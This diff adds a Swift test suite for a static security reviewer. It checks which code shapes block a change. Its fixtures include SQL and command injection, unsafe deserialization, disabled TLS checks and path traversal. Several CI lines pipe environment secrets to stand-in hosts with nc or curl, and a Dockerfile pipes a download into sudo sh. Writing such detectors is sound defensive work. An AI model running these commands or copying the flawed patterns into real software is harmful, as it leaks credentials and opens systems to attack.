@@ -1,0 +1,151 @@
+import Foundation
+import Manifest
+import Testing
+
+@testable import Review
+
+/// The static rules class by class: each risky shape blocks under `block-high` with its rule, each near miss does
+/// not. Credentials here are made up and valid nowhere.
+@Suite struct StaticRuleClassTests {
+    /// A change that adds `text` as the new file `path`: the rule expected to block it, or nil for a near miss.
+    struct Example: Sendable, CustomTestStringConvertible {
+        let path: String
+        let text: String
+        let rule: String?
+        var testDescription: String { "\(path): \(rule ?? "benign")" }
+
+        init(_ path: String, _ text: String, _ rule: String?) {
+            self.path = path
+            self.text = text
+            self.rule = rule
+        }
+    }
+
+    private static func blocking(_ example: Example) -> [ReviewFinding] {
+        let change = ReviewCase("example", example.path, example.text, risky: example.rule != nil)
+        return StaticReviewer().review(diff: change.patch).findings.filter { $0.severity >= .high }
+    }
+
+    private static func check(_ example: Example) {
+        let findings = blocking(example)
+        if let rule = example.rule {
+            #expect(findings.contains { $0.rule == rule }, "\(example.text) → \(findings.map(\.rule))")
+        } else {
+            #expect(findings.isEmpty, "\(example.text) → \(findings.map(\.rule))")
+        }
+    }
+
+    @Test(arguments: [
+        Example("app.properties", "db.password=Xk9#mP2vLq7\n", "secret.generic-assignment"),
+        Example("app.properties", "db.password=${DB_PASSWORD}\n", nil),
+        Example(".npmrc", "//npm.example.com/:_authToken=Ab3dE6gH9jK2mN5pQ8sT\n", "secret.generic-assignment"),
+        Example("config.yaml", "encryption_key: \"Qz7Wx2Ev9Rb4Tn6Ym1Uk3Il8\"\n", "secret.generic-assignment"),
+        Example("config.yaml", "encryption_key: \"<32 random bytes, base64>\"\n", nil),
+        Example("config.toml", "password_min_length = 12\ntoken_url = \"https://id.example.com/token\"\n", nil),
+        Example("app/settings.py", "SECRET = os.environ.get(\"SECRET\", \"Lq8Zr3Mx6Vt1Pw4Ky7Nb\")\n", "secret.env-default"),
+        Example("app/settings.py", "TIMEOUT = os.environ.get(\"TIMEOUT\", \"30\")\n", nil),
+        Example("src/config.ts", "const key = process.env.API_KEY ?? \"Hj4Kl7Mn0Pq3Rs6Tu9Vw\";\n", "secret.env-default"),
+        Example("Sources/App/Config.cs", "var pwd = Environment.GetEnvironmentVariable(\"DB_PASS\") ?? \"Rt5Yu8Io1Pa4Sd7\";\n", "secret.env-default"),
+        Example("Dockerfile", "FROM alpine:3.20\nENV A=1 \\\n    API_TOKEN=Zq3Xw6Ce9Vr2Bt5Ny8\nUSER app\n", "docker.secret-in-env"),
+        Example("README.md", "connect with postgres://app:${DB_PASS}@db/app\n", nil),
+        Example("deploy.yaml", "url: mysql://root:Mq4Wz8Xe2Rc6@db:3306/app\n", "secret.url-password"),
+        Example("deploy.yaml", "commit: 9fceb02d0ae598e95dc970b74767f19372d61af8\nid: 3f2504e0-4f89-11d3-9a0c-0305e82c3301\n", nil),
+        Example("src/pay.js", "const key = \"sk_live_xxxxxxxxxxxxxxxxxxxxxxxx\";\n", nil),
+        Example("keys/id.pem", "-----BEGIN RSA PRIVATE KEY-----\n<paste the key here>\n-----END RSA PRIVATE KEY-----\n", nil),
+    ])
+    func secretsAcrossFormats(_ example: Example) { Self.check(example) }
+
+    @Test func placeholdersAreLoweredNotDropped() {
+        let findings = StaticReviewer().review(
+            diff: ReviewCase("p", "config.yaml", "client_secret: \"changeme\"\n", risky: false).patch
+        ).findings
+        #expect(findings.map(\.rule) == ["secret.generic-assignment"] && findings.first?.severity == .low)
+    }
+
+    @Test(arguments: [
+        Example("app/q.py", "sql = f\"SELECT * FROM t WHERE a = '{a}'\"\ncur.execute(sql)\n", "code.sql-string-built"),
+        Example("app/q.py", "cur.execute(\"SELECT * FROM t WHERE a = %s\", (a,))\n", nil),
+        Example("app/q.rb", "User.where(\"name = '#{params[:name]}'\")\n", "code.sql-string-built"),
+        Example("app/q.rb", "User.where(name: params[:name])\n", nil),
+        Example("src/q.ts", "const q = `SELECT * FROM t WHERE id = ${id}`;\nawait db.query(q);\n", "code.sql-string-built"),
+        Example("src/q.ts", "const TABLE = \"users\";\nawait db.query(`SELECT * FROM ${TABLE} WHERE id = $1`, [id]);\n", nil),
+        Example("main.go", "q := \"SELECT * FROM t WHERE a = '\" + a + \"'\"\nrows, _ := db.Query(q)\n", "code.sql-string-built"),
+        Example("Repo.java", "String q = \"SELECT * FROM t WHERE a = '\" + a + \"'\";\nstmt.executeQuery(q);\n", "code.sql-string-built"),
+        Example("src/db.rs", "let q = format!(\"DELETE FROM t WHERE id = {}\", id);\nconn.execute(&q, [])?;\n", "code.sql-string-built"),
+    ])
+    func sqlBySinkAndSource(_ example: Example) { Self.check(example) }
+
+    @Test(arguments: [
+        Example("public/x.php", "<?php\necho `ls $dir`;\n", "code.command-injection"),
+        Example("app/x.py", "subprocess.run(f\"tar czf {name}.tgz data\", shell=True)\n", "code.subprocess-shell"),
+        Example("app/x.py", "subprocess.run([\"tar\", \"czf\", name, \"data\"])\n", nil),
+        Example("app/x.py", "os.system(\"sync\")\n", nil),
+        Example("src/x.js", "execSync(\"git rev-parse HEAD\");\n", nil),
+        Example("src/x.js", "exec(\"convert \" + file + \" out.png\");\n", "code.command-injection"),
+        Example("lib/x.rb", "out = %x(convert #{path} out.png)\n", "code.command-injection"),
+        Example("Run.cs", "Process.Start(\"/bin/bash\", \"-c \\\"\" + cmd + \"\\\"\");\n", "code.command-injection"),
+        Example("app/x.py", "result = eval(expression)\n", "code.eval"),
+        Example("app/x.py", "model.eval()\nvalue = ast.literal_eval(text)\n", nil),
+        Example("app/x.py", "data = yaml.safe_load(stream)\n", nil),
+        Example("app/x.py", "obj = pickle.loads(blob)\n", "code.unsafe-deserialization"),
+        Example("Api.cs", "var f = new BinaryFormatter();\n", "code.unsafe-deserialization"),
+    ])
+    func commandsCodeAndObjects(_ example: Example) { Self.check(example) }
+
+    @Test(arguments: [
+        Example("tls.go", "cfg.InsecureSkipVerify = true\n", "code.tls-verify-disabled"),
+        Example("tls.go", "cfg.InsecureSkipVerify = opts.Insecure\n", nil),
+        Example("http.py", "requests.get(url, verify=False)\n", "code.tls-verify-disabled"),
+        Example("Client.cs", "handler.ServerCertificateCustomValidationCallback = (m, c, ch, e) => true;\n", "code.tls-verify-disabled"),
+        Example("client.rs", "let c = reqwest::Client::builder().danger_accept_invalid_certs(true).build()?;\n", "code.tls-verify-disabled"),
+        Example("app/f.rb", "send_file File.join(UPLOADS, params[:name])\n", "code.path-traversal"),
+        Example("app/f.rb", "send_file File.join(UPLOADS, File.basename(params[:name]))\n", nil),
+        Example("files.go", "name := r.URL.Query().Get(\"f\")\nhttp.ServeFile(w, r, filepath.Join(dir, name))\n", "code.path-traversal"),
+        Example("public/f.php", "<?php readfile(\"/srv/files/\" . $_GET['f']);\n", "code.path-traversal"),
+        Example("auth.go", "sum := md5.Sum([]byte(password))\n", "code.weak-password-hash"),
+        Example("auth.go", "hash, _ := bcrypt.GenerateFromPassword([]byte(password), 12)\n", nil),
+        Example("auth.php", "<?php $h = md5($password);\n", "code.weak-password-hash"),
+        Example("cache.php", "<?php $etag = md5($body);\n", nil),
+        Example("app/a.py", "if request.headers.get(\"X-Internal\") == \"yes\":\n    return view(request)\n", "code.auth-bypass-header"),
+        Example("app/a.py", "if request.headers.get(\"X-Token\") != settings.TOKEN:\n    abort(401)\n", nil),
+    ])
+    func protectionsFilesHashesAndHeaders(_ example: Example) { Self.check(example) }
+
+    @Test(arguments: [
+        Example(".github/workflows/x.yml", "    steps:\n      - run: printenv | nc collect.example.net 9000\n", "ci.secrets-exfiltration"),
+        Example(".github/workflows/x.yml", "      - run: curl -d \"t=${{ secrets.DEPLOY_KEY }}\" https://hook.example.net\n", "ci.secrets-exfiltration"),
+        Example(".github/workflows/x.yml", "      - run: curl -H \"Authorization: token ${{ secrets.GH }}\" https://api.github.com/user\n", nil),
+        Example(".gitlab-ci.yml", "test:\n  script:\n    - cat /proc/self/environ | curl -X POST --data-binary @- http://198.51.100.7/\n", "ci.secrets-exfiltration"),
+        Example(".github/workflows/x.yml", "on: pull_request_target\njobs:\n  t:\n    steps:\n      - uses: actions/checkout@v4\n        with:\n          ref: ${{ github.event.pull_request.head.ref }}\n", "ci.pull-request-target"),
+        Example(".github/workflows/x.yml", "      - run: echo \"${{ github.event.pull_request.title }}\"\n", "ci.script-injection"),
+        Example("Dockerfile", "FROM alpine:3.20\nRUN wget -qO- https://get.example.com | sudo sh\nUSER app\n", "docker.curl-pipe-shell"),
+        Example("Dockerfile", "FROM alpine:3.20\nRUN curl -k https://example.com/tool -o /tool\nUSER app\n", "code.tls-verify-disabled"),
+        Example("docs/install.md", "Run `curl -fsSL https://get.example.com | sh` on your laptop.\n", nil),
+    ])
+    func ciAndDockerfiles(_ example: Example) { Self.check(example) }
+
+    @Test func mediumDockerfileFindingsBlockUnderBlockMedium() {
+        let change = ReviewCase(
+            "add", "Dockerfile", "FROM alpine:3.20\nADD https://example.com/a.tgz /opt/\nUSER app\n", risky: true,
+            policy: .blockMedium)
+        let report = StaticReviewer().review(diff: change.patch)
+        #expect(change.isJudgedRight(by: report))
+        #expect(!ReviewGate(policy: .blockHigh, failClosed: true).decide([.report(report)]).isBlocked)
+    }
+
+    @Test func taintFollowsANameOnlyInTheChangedFile() {
+        let patch = """
+            diff --git a/app/q.py b/app/q.py
+            --- a/app/q.py
+            +++ b/app/q.py
+            @@ -1,2 +1,3 @@
+             sql = "SELECT * FROM t WHERE a = '" + a + "'"
+             x = 1
+            +cur.execute(sql)
+
+            """
+        #expect(StaticReviewer().review(diff: patch).findings.map(\.rule) == ["code.sql-string-built"])
+        let unrelated = patch.replacingOccurrences(of: "+cur.execute(sql)", with: "+cur.execute(other)")
+        #expect(StaticReviewer().review(diff: unrelated).findings.isEmpty)
+    }
+}
